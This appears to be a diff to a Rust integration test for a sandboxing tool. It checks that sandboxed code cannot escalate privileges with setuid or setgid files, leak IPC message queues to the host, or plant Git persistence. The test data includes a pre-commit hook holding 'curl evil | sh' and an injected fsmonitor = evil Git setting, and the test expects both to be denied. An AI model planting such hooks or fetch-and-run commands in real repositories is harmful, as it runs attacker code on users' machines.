@@ -196,6 +196,15 @@ impl Drop for TestUser {
     }
 }
 
+/// Removes a System V message queue of the host's (by id) when dropped.
+struct RemoveQueue(String);
+
+impl Drop for RemoveQueue {
+    fn drop(&mut self) {
+        let _ = Command::new("ipcrm").args(["-q", &self.0]).status();
+    }
+}
+
 #[test]
 fn the_default_identity_cannot_persist_outside_the_sandbox_and_project_tests_still_run() {
     let sbx = Sbx::new();
@@ -239,19 +248,34 @@ try npm npm test --silent
 try git-hook sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
 try git-config sh -c 'printf "[core]\\n\\tfsmonitor = evil\\n" >> .git/config'
 try git-commit sh -c 'git add file && git -c safe.directory="*" -c user.name=t -c user.email=t@t commit -qm sandboxed'
+try setuid chmod u+s file
+try setgid-create python3 -c 'import os; os.open("made", os.O_CREAT | os.O_WRONLY, 0o2755)'
+ipcmk -Q >/dev/null && echo "ipc queues $(ipcs -q | grep -c '^0x')"
 echo "npm-home $(cat npm-out.txt)""#,
         home = user.home.display()
     );
     let expected = |uid: u32| {
         format!(
             "id {uid}\nuser {name} {name}\nxdg unset\nbashrc denied\nprofile denied\nother-project denied\n\
-             project ok\nown-home ok\ntmp ok\nmake ok\nnpm ok\ngit-hook denied\ngit-config denied\ngit-commit {commit}\n",
+             project ok\nown-home ok\ntmp ok\nmake ok\nnpm ok\ngit-hook denied\ngit-config denied\ngit-commit {commit}\n\
+             setuid denied\nsetgid-create denied\nipc queues 1\n",
             name = if uid == 0 { "root".to_owned() } else { user.name.clone() },
             // Root without capabilities cannot write the user's own .git
             // (0755): permissions, not sbx.
             commit = if uid == 0 { "denied" } else { "ok" },
         )
     };
+    // A message queue of the host's, which the sandbox's own IPC namespace
+    // must not show; and the count after, which its queue must not join.
+    let host_queues = || {
+        let out = Command::new("ipcs").arg("-q").output().expect("ipcs");
+        String::from_utf8_lossy(&out.stdout).lines().filter(|l| l.starts_with("0x")).count()
+    };
+    let made = Command::new("ipcmk").arg("-Q").output().expect("ipcmk");
+    let queue_id = String::from_utf8_lossy(&made.stdout).trim().rsplit(' ').next().unwrap_or_default().to_owned();
+    assert!(made.status.success() && !queue_id.is_empty(), "ipcmk: {}", describe(&made));
+    let _queue = RemoveQueue(queue_id);
+    let queues_before = host_queues();
     // As sudo would start it for this user: SUDO_UID picks the identity.
     // Then as root (`--user 0`), which Landlock restricts the same way.
     for (options, uid) in [(vec!["--profile", "offline"], user.uid), (vec!["--profile", "offline", "--user", "0"], 0)] {
@@ -281,8 +305,10 @@ echo "npm-home $(cat npm-out.txt)""#,
         assert_eq!(std::fs::read_to_string(proj.join("file")).expect("the project file"), "mine\n");
         assert_eq!(std::fs::read_to_string(proj.join("out.txt")).expect("make's output"), "built\n");
         assert!(!proj.join(".git/hooks/pre-commit").exists());
+        assert_eq!(host_queues(), queues_before, "the sandbox's message queue ended with its IPC namespace");
+        assert!(!proj.join("made").exists(), "a set-group-ID file was made");
         assert!(!std::fs::read_to_string(proj.join(".git/config")).expect("config").contains("evil"));
-        for f in ["file", "out.txt", "npm-out.txt"] {
+        for f in ["file", "out.txt", "npm-out.txt", "made"] {
             let _ = std::fs::remove_file(proj.join(f));
         }
     }
